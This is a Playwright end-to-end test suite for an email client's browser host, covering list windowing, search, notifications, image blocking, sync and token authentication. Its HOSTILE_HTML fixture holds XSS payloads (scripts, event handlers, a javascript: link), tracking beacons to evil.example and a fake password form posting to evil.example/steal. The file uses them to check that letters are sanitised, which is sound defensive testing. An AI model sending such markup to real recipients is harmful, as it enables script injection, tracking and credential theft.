import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { type BrowserContext, expect, type Page, request, test } from '@playwright/test';
import type { JournalEvent } from '../core/api.js';
import type { HttpHost } from '../core/host/http-host.js';
import type { JournalService } from '../core/journal-service.js';
import { letter } from './fixtures/letters.js';
import { servedJournal } from './fixtures/served-journal.js';
import { type DovecotServer, dovecotAvailable, startDovecot } from './support/dovecot.js';
import { seedMessages } from './support/maildir.js';

const available = dovecotAvailable();
const USER = 'anna@interlog.test';
const PASSWORD = 'Пароль-e2e';
const RENDERER = path.resolve(import.meta.dirname, '..', 'dist', 'renderer');
const SCREENS = path.resolve(import.meta.dirname, '..', 'test-results', 'screens');
const FILLERS = 250;

/** Everything the hostile letter tries; each marker would show up as a console line or a request. */
const HOSTILE_HTML = `<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<link rel="stylesheet" href="https://evil.example/style.css">
<style>body { background: url(https://evil.example/bg.png) }</style>
<script>console.log('XSS-SCRIPT'); new Image().src = 'https://evil.example/script-beacon';</script>
</head><body onload="console.log('XSS-ONLOAD')">
<h1>Quarterly offer</h1>
<p>Hostile letter body text.</p>
<img src="https://evil.example/tracker.gif" width="1" height="1">
<img src="x" onerror="console.log('XSS-ONERROR')">
<img srcset="https://evil.example/srcset.png 1x">
<div style="background-image: url(https://evil.example/div.png)">styled block</div>
<svg onload="console.log('XSS-SVG')"><image href="https://evil.example/svg.png"/></svg>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/object.swf"></object>
<video poster="https://evil.example/poster.png" src="https://evil.example/v.mp4"></video>
<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>
<a href="javascript:console.log('XSS-HREF')">run a script</a>
<a href="https://evil.example/phish">Claim your prize</a>
</body></html>`;

/** Run inside the letter's frame (as a string: the e2e code is type-checked without the DOM library). */
const INSPECT_LETTER = `({
  active: document.querySelectorAll(
    'script, iframe, object, embed, form, input, link, svg, video, base, meta[http-equiv="refresh"]').length,
  handlers: [...document.querySelectorAll('*')].flatMap((el) =>
    [...el.attributes].map((a) => a.name).filter((n) => n.startsWith('on'))),
  links: [...document.querySelectorAll('a')].map((a) => a.getAttribute('href')),
})`;

/** A stand-in for a newsletter's image server, on loopback so the test can count what reaches it. */
async function startImageServer() {
  const hits: string[] = [];
  const png = Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
    'base64',
  );
  const server = http.createServer((req, res) => {
    hits.push(req.url ?? '');
    res.writeHead(200, { 'Content-Type': 'image/png' });
    res.end(png);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { origin, hits, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
}

function fillers() {
  return Array.from({ length: FILLERS }, (_, i) => ({
    raw: letter({
      from: 'Robot <reports@factory.example>',
      to: USER,
      subject: `Weekly report #${i + 1}`,
      messageId: `report-${i + 1}@factory.example`,
      date: new Date(Date.UTC(2023, 0, 1) + i * 86_400_000).toUTCString().replace('GMT', '+0000'),
      text: `Production figures for week ${i + 1}.`,
    }),
  }));
}

test.describe('the journal in the browser host', () => {
  test.skip(!available.ok, `needs a Dovecot to sync from (${available.ok ? '' : available.reason})`);
  test.skip(!fs.existsSync(path.join(RENDERER, 'index.html')), 'needs the renderer built: run `npx vite build`');
  test.describe.configure({ mode: 'serial' });

  let server: DovecotServer;
  let service: JournalService;
  let host: HttpHost;
  let push: (event: JournalEvent) => void;
  let images: Awaited<ReturnType<typeof startImageServer>>;
  let dir: string;

  test.beforeAll(async () => {
    fs.mkdirSync(SCREENS, { recursive: true });
    images = await startImageServer();
    server = await startDovecot({ users: [{ user: USER, password: PASSWORD }] });
    seedMessages(server, USER, 'INBOX', [
      ...fillers(),
      {
        raw: letter({
          from: '"Иван Петров" <ivan@client.example>',
          to: USER,
          subject: 'Счёт на оплату №15',
          messageId: 'invoice-15@client.example',
          date: 'Tue, 05 Mar 2024 10:15:00 +0300',
          text: 'Добрый день! Высылаю счёт на оплату по договору поставки.',
          attachments: [{ name: 'Счёт №15.pdf', contentType: 'application/pdf', content: Buffer.alloc(48_000, 1) }],
        }),
      },
      {
        raw: letter({
          from: 'prorab@build.example',
          to: USER,
          subject: 'Смета',
          messageId: 'estimate@build.example',
          date: 'Wed, 06 Mar 2024 09:00:00 +0300',
          text: 'Смета на фундамент и стены.',
        }),
      },
      {
        raw: letter({
          from: 'Catalogue <news@shop.example>',
          to: USER,
          subject: 'Spring catalogue',
          messageId: 'catalogue@shop.example',
          date: 'Thu, 07 Mar 2024 12:00:00 +0300',
          text: 'Our spring catalogue.',
          html: `<p>Our <b>spring catalogue</b>:</p><img src="${images.origin}/catalogue.png" width="120" height="60" alt="Catalogue">`,
        }),
      },
      {
        raw: letter({
          from: 'Prize Office <winner@evil.example>',
          to: USER,
          subject: 'Hostile newsletter',
          messageId: 'hostile@evil.example',
          date: 'Fri, 08 Mar 2024 08:00:00 +0300',
          html: HOSTILE_HTML,
        }),
      },
    ]);
    seedMessages(server, USER, 'Sent', [
      {
        raw: letter({
          from: `Anna <${USER}>`,
          to: '"Иван Петров" <ivan@client.example>',
          subject: 'Re: Счёт на оплату №15',
          messageId: 'reply-15@interlog.test',
          inReplyTo: 'invoice-15@client.example',
          date: 'Tue, 05 Mar 2024 11:00:00 +0300',
          text: 'Спасибо, оплатим в пятницу.',
        }),
      },
    ]);
    ({ dir, service, host, push } = await servedJournal({
      server,
      user: USER,
      password: PASSWORD,
      prefix: 'interlog-e2e-',
      staticDir: RENDERER,
    }));
  });

  test.afterAll(async () => {
    await host?.close();
    await service?.close();
    await server?.stop();
    await images?.close();
    if (dir) fs.rmSync(dir, { recursive: true, force: true });
  });

  /** Records every request the page makes and refuses any that would leave this machine. */
  async function watchNetwork(context: BrowserContext) {
    const requests: string[] = [];
    context.on('request', (r) => requests.push(r.url()));
    await context.route(
      (url) => url.hostname !== '127.0.0.1',
      (route) => route.abort(),
    );
    return { foreign: () => requests.filter((u) => !u.startsWith(host.origin)) };
  }

  async function open(page: Page) {
    const response = await page.goto(host.url);
    expect(response?.status()).toBe(200);
    // The token went into a cookie and out of the address bar.
    expect(page.url()).toBe(`${host.origin}/`);
    await expect(page.getByRole('listbox', { name: 'Interactions' })).toBeVisible();
  }

  const rows = (page: Page) => page.locator('.vlist').getByRole('option');
  /** The row whose title is exactly `title`. */
  const row = (page: Page, title: string) =>
    rows(page).filter({ has: page.locator('.title').getByText(title, { exact: true }) });
  const shot = (page: Page, name: string) => page.screenshot({ path: path.join(SCREENS, `${name}.png`) });

  test('shows the synced letters in a windowed list, newest first, and reads one', async ({ page, context }) => {
    const network = await watchNetwork(context);
    await open(page);
    const total = FILLERS + 5;
    await expect(page.locator('.count')).toHaveText(`${total} interactions`);
    await expect(row(page, 'Hostile newsletter')).toBeVisible();
    await expect(row(page, 'Счёт на оплату №15')).toBeVisible();
    await expect(row(page, 'Re: Счёт на оплату №15')).toBeVisible();
    await expect(row(page, 'Weekly report #250')).toBeVisible();
    // The top row is the newest; the outgoing reply shows its recipient.
    await expect(rows(page).first()).toContainText('Hostile newsletter');
    await expect(row(page, 'Re: Счёт на оплату №15').locator('.correspondent')).toHaveText('Иван Петров');
    // Windowing: a few dozen rows in the DOM for hundreds in the journal.
    const rendered = await page.locator('.vlist-row').count();
    expect(rendered).toBeGreaterThan(5);
    expect(rendered).toBeLessThan(60);
    await expect(page.getByRole('region', { name: 'Work' }).or(page.locator('[data-account="Work"]'))).toContainText(
      'Synced',
    );
    await shot(page, '01-journal');

    await row(page, 'Счёт на оплату №15').click();
    const reading = page.locator('section.reading');
    await expect(reading.locator('.letter-title')).toHaveText(/Счёт на оплату №15/);
    await expect(reading).toContainText('Иван Петров <ivan@client.example>');
    await expect(reading.locator('.attachment-list')).toContainText('Счёт №15.pdf');
    await expect(reading.locator('.letter-text')).toContainText('Высылаю счёт на оплату');
    // The keyboard moves the selection and the pane follows.
    await page.getByRole('listbox', { name: 'Interactions' }).focus();
    await page.keyboard.press('ArrowDown');
    await expect(reading.locator('.letter-title')).not.toHaveText(/^Счёт на оплату №15$/);
    await row(page, 'Счёт на оплату №15').click();
    await shot(page, '02-letter-text');

    // Scrolling to the end loads the last page; the oldest letter is at the bottom.
    await page.getByRole('listbox', { name: 'Interactions' }).evaluate((el) => {
      el.scrollTop = el.scrollHeight;
    });
    await expect(row(page, 'Weekly report #1')).toBeVisible();
    expect(await page.locator('.vlist-row').count()).toBeLessThan(60);
    // The date column sorts: oldest first puts the first report on top.
    await page.getByRole('button', { name: /^Date/ }).click();
    await page.getByRole('listbox', { name: 'Interactions' }).evaluate((el) => {
      el.scrollTop = 0;
    });
    await expect(rows(page).first()).toContainText('Weekly report #1');
    expect(network.foreign()).toEqual([]);
  });

  test('a clicked notification opens its letter, even one the list does not show now', async ({ page }) => {
    await open(page);
    const [invoice] = await service.search({ text: 'Высылаю счёт' });
    expect(invoice?.title).toBe('Счёт на оплату №15');
    // The list is narrowed to something else, and a dialog is open, when the user clicks the notification.
    await page.getByRole('searchbox', { name: 'Full-text search' }).fill('фундамент');
    await expect(page.locator('.count')).toHaveText('1 found');
    await page.getByRole('button', { name: 'Settings' }).click();
    await expect(page.getByRole('dialog', { name: 'Settings' })).toBeVisible();
    // The event stream is connected once the list has loaded through it; the shell sends what its click handler does.
    push({ type: 'open-interaction', interactionId: invoice?.id as number });
    await expect(page.getByRole('dialog', { name: 'Settings' })).toBeHidden();
    const reading = page.locator('section.reading');
    await expect(reading.locator('.letter-title')).toHaveText(/Счёт на оплату №15$/);
    await expect(reading.locator('.letter-text')).toContainText('Высылаю счёт на оплату');
  });

  test('full-text search narrows the list', async ({ page }) => {
    await open(page);
    const search = page.getByRole('searchbox', { name: 'Full-text search' });
    await search.fill('фундамент');
    await expect(page.locator('.count')).toHaveText('1 found');
    await expect(rows(page)).toHaveCount(1);
    await expect(rows(page)).toContainText('Смета');
    await shot(page, '03-search');
    await search.fill('report');
    await expect(page.locator('.count')).toHaveText(/^\d+ found$/);
    await expect(row(page, 'Смета')).toHaveCount(0);
    await search.fill('nothing-like-this-anywhere');
    await expect(page.getByText('Nothing found.')).toBeVisible();
    await search.fill('');
    await expect(page.locator('.count')).toHaveText(`${FILLERS + 5} interactions`);
  });

  test('a hostile HTML letter runs no script and makes no request', async ({ page, context }) => {
    const network = await watchNetwork(context);
    const console: string[] = [];
    page.on('console', (message) => console.push(message.text()));
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    const popups: string[] = [];
    context.on('page', (p) => popups.push(p.url()));

    await open(page);
    await row(page, 'Hostile newsletter').click();
    const frameElement = page.locator('iframe.letter-frame');
    // A link may open a new window (the system browser, in Electron); nothing may run or reach the app.
    await expect(frameElement).toHaveAttribute('sandbox', 'allow-popups allow-popups-to-escape-sandbox');
    const srcdoc = (await frameElement.getAttribute('srcdoc')) ?? '';
    expect(srcdoc).toContain(`<meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src data:;`);
    const letterFrame = page.frameLocator('iframe.letter-frame');
    await expect(letterFrame.locator('body')).toContainText('Hostile letter body text.');
    await expect(letterFrame.locator('h1')).toHaveText('Quarterly offer');
    await expect(page.locator('.blocked-images')).toContainText('1 remote image is blocked');

    // What reached the frame's DOM: no active element, no handler, no javascript: link.
    const frame = page.frames().find((f) => f.url() === 'about:srcdoc');
    expect(frame).toBeDefined();
    const found = await frame?.evaluate(INSPECT_LETTER);
    expect(found).toEqual({ active: 0, handlers: [], links: [null, 'https://evil.example/phish'] });

    // Clicking the script link does nothing; the kept link opens its address in a new page that cannot reach the
    // app (no opener), never in the frame or the app.
    await letterFrame.getByText('run a script').click();
    const opened = context.waitForEvent('page');
    await letterFrame.getByText('Claim your prize').click();
    expect(await (await opened).evaluate('window.opener')).toBeNull();
    await page.waitForTimeout(1_000);
    expect(
      page
        .frames()
        .find((f) => f !== page.mainFrame())
        ?.url(),
    ).toBe('about:srcdoc');
    expect(console.filter((m) => m.includes('XSS'))).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(popups).toHaveLength(1);
    // The new page's one address (its request may be reported twice), refused by the watcher.
    expect(new Set(network.foreign())).toEqual(new Set(['https://evil.example/phish']));
    await shot(page, '04-hostile-letter');

    await page.getByRole('button', { name: 'Plain text' }).click();
    await expect(page.locator('.letter-text')).toContainText('Hostile letter body text.');
    expect(console.filter((m) => m.includes('XSS'))).toEqual([]);
  });

  test('remote images load only when the reader asks', async ({ page }) => {
    await open(page);
    await row(page, 'Spring catalogue').click();
    const letterFrame = page.frameLocator('iframe.letter-frame');
    await expect(letterFrame.locator('body')).toContainText('spring catalogue');
    await expect(page.locator('.blocked-images')).toContainText('1 remote image is blocked');
    await page.waitForTimeout(500);
    expect(images.hits).toEqual([]);
    await shot(page, '05-images-blocked');
    await page.getByRole('button', { name: 'Show images', exact: true }).click();
    await expect(letterFrame.locator(`img[src="${images.origin}/catalogue.png"]`)).toBeVisible();
    await expect.poll(() => images.hits).toEqual(['/catalogue.png']);
    await expect(page.locator('.blocked-images')).toHaveCount(0);
    await shot(page, '06-images-shown');
  });

  test('"always show images" from a sender holds across restarts until stopped', async ({ page }) => {
    await open(page);
    await row(page, 'Spring catalogue').click();
    const letterFrame = page.frameLocator('iframe.letter-frame');
    const picture = letterFrame.locator(`img[src="${images.origin}/catalogue.png"]`);
    await expect(page.locator('.blocked-images')).toContainText('1 remote image is blocked');
    const before = images.hits.length;
    await page.getByRole('button', { name: 'Always show images from news@shop.example' }).click();
    await expect(picture).toBeVisible();
    await expect(page.locator('.images-trusted')).toHaveText('Images from news@shop.example are always shown. Stop');
    await expect.poll(() => images.hits.length).toBe(before + 1);

    // A new window (the app started again): the letter opens with its image, unasked.
    await open(page);
    await row(page, 'Spring catalogue').click();
    await expect(picture).toBeVisible();
    await expect(page.locator('.blocked-images')).toHaveCount(0);
    await shot(page, '06b-images-from-sender');

    await page.locator('.images-trusted').getByRole('button', { name: 'Stop' }).click();
    await expect(page.locator('.blocked-images')).toContainText('1 remote image is blocked');
    await expect(picture).toHaveCount(0);
    // Another letter of the journal, from someone else, was never affected.
    expect(
      (await service.getMessage({ interactionId: (await service.search({ text: 'Смета' }))[0]?.id as number }))
        .imagesFromSender,
    ).toBe(false);
  });

  test('"Sync now" fetches new mail and shows it', async ({ page }) => {
    await open(page);
    seedMessages(server, USER, 'INBOX', [
      {
        raw: letter({
          from: 'Пётр <petr@buyer.example>',
          to: USER,
          subject: 'Новый заказ №42',
          messageId: 'order-42@buyer.example',
          date: new Date().toUTCString().replace('GMT', '+0000'),
          text: 'Прошу выставить счёт на 40 мешков цемента.',
        }),
      },
    ]);
    await page.getByRole('button', { name: 'Sync now' }).click();
    await expect(page.getByRole('status').filter({ hasText: 'Sync finished' })).toHaveText(
      'Sync finished: 1 new letter',
    );
    await expect(rows(page).first()).toContainText('Новый заказ №42');
    await expect(page.locator('.count')).toHaveText(`${FILLERS + 6} interactions`);
    await shot(page, '07-after-sync');
  });

  test('speaks Russian to a Russian browser', async ({ browser }) => {
    const context = await browser.newContext({ locale: 'ru-RU' });
    const page = await context.newPage();
    await page.goto(host.url);
    await expect(page.getByRole('heading', { name: 'Взаимодействия' })).toBeVisible();
    await expect(page.getByRole('button', { name: 'Получить почту' })).toBeVisible();
    await expect(page.locator('.count')).toHaveText(`${FILLERS + 6} взаимодействий`);
    await row(page, 'Счёт на оплату №15').click();
    await expect(page.locator('.letter-head')).toContainText('Кому');
    await shot(page, '08-russian');
    await context.close();
  });

  test('a failing account shows its error in plain words', async ({ page }) => {
    await service.addAccount({
      name: 'Archive',
      email: 'archive@interlog.test',
      protocol: 'imap',
      host: '127.0.0.1',
      port: server.imapPort,
      security: 'starttls',
      username: USER,
      password: 'not-the-password',
      acceptSelfSigned: true,
      verify: false,
    });
    await open(page);
    await page.getByRole('button', { name: 'Sync now' }).click();
    await expect(page.getByRole('status').filter({ hasText: 'Sync failed' })).toBeVisible();
    const archive = page.locator('[data-account="Archive"]');
    await expect(archive.getByRole('alert')).not.toBeEmpty();
    await expect(page.getByRole('button', { name: 'Sync now' })).toBeEnabled();
    await shot(page, '09-sync-error');
  });

  test('the host refuses requests without the token', async ({ page }) => {
    const anonymous = await request.newContext();
    expect((await anonymous.get(`${host.origin}/`)).status()).toBe(401);
    expect((await anonymous.get(`${host.origin}/api/events`)).status()).toBe(401);
    const call = await anonymous.post(`${host.origin}/api/listAccounts`, { data: {} });
    expect(call.status()).toBe(401);
    const wrong = await anonymous.post(`${host.origin}/api/listAccounts`, {
      data: {},
      headers: { Authorization: 'Bearer not-the-token' },
    });
    expect(wrong.status()).toBe(401);
    const right = await anonymous.post(`${host.origin}/api/listAccounts`, {
      data: {},
      headers: { Authorization: `Bearer ${host.token}` },
    });
    expect(right.status()).toBe(200);
    expect(await right.json()).toMatchObject({
      ok: true,
      value: expect.arrayContaining([expect.objectContaining({ name: 'Work', email: USER })]),
    });
    await anonymous.dispose();
    // A browser without the cookie gets no page either.
    const response = await page.goto(host.origin);
    expect(response?.status()).toBe(401);
    await expect(page.locator('body')).toContainText('npm run serve');
  });
});
